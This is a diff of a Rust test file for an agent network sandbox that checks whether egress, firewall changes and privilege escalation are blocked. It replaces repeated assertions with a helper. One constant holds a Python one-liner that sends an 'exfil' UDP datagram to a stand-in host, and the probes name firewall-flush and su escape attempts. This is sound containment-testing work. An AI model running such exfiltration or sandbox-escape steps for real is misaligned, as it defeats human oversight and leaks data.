@@ -8,16 +8,11 @@
 
 mod common;
 
-use airlock_tests::World;
 use common::*;
 use std::time::{Duration, Instant};
 
 /// Sends one UDP datagram to the fake internet's UDP sink (203.0.113.10:443, as QUIC would).
 const UDP_SEND: &str = "import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'exfil', ('203.0.113.10', 443))";
-
-fn world() -> World {
-    World::new().expect("build the namespace world (run as root; scripts/test installs the tools)")
-}
 
 #[test]
 fn an_agent_session_on_the_wire_only_the_proxy_leaves() {
@@ -87,19 +82,7 @@ fn an_agent_session_on_the_wire_only_the_proxy_leaves() {
     for probe in ["direct", "meta", "v6"] {
         assert_stopped(&text, probe);
     }
-    let probe = "ping";
-    assert!(
-        text.contains(&format!("{probe}=")),
-        "{probe} did not run:\n{text}"
-    );
-    assert!(
-        !text.contains(&format!("{probe}=0\n")),
-        "{probe} must fail:\n{text}"
-    );
-    assert!(
-        !text.contains(&format!("{probe}=127\n")),
-        "{probe}: tool missing, nothing was attempted:\n{text}"
-    );
+    assert_attempt_failed(&text, "ping");
     assert!(
         text.contains("dig="),
         "the foreign-resolver query ran (the wire check below proves it never left):\n{text}"
@@ -241,14 +224,7 @@ fn ipv6_egress_fails() {
     let text = stdout(&out);
     assert_stopped(&text, "tcp6");
     for probe in ["dns6", "ping6"] {
-        assert!(
-            text.contains(&format!("{probe}=")) && !text.contains(&format!("{probe}=0\n")),
-            "{probe} must fail:\n{text}"
-        );
-        assert!(
-            !text.contains(&format!("{probe}=127\n")),
-            "{probe}: tool missing:\n{text}"
-        );
+        assert_attempt_failed(&text, probe);
     }
     assert!(
         world
@@ -312,10 +288,7 @@ fn the_agent_cannot_change_or_read_the_firewall() {
     for step in [
         "flush", "policy", "flush6", "restore", "save", "link", "route",
     ] {
-        assert!(
-            text.contains(&format!("{step}=")) && !text.contains(&format!("{step}=0")),
-            "{step} succeeded:\n{text}"
-        );
+        assert_attempt_failed(&text, step);
     }
     // The rules are still in place after the agent's attempts.
     let save = std::process::Command::new("ip")
@@ -363,10 +336,7 @@ fn the_agent_has_no_privileges_left() {
         "only the agent's own group"
     );
     for step in ["su", "userns", "pid1env"] {
-        assert!(
-            text.contains(&format!("{step}=")) && !text.contains(&format!("{step}=0")),
-            "{step} succeeded:\n{text}"
-        );
+        assert_attempt_failed(&text, step);
     }
 }
 
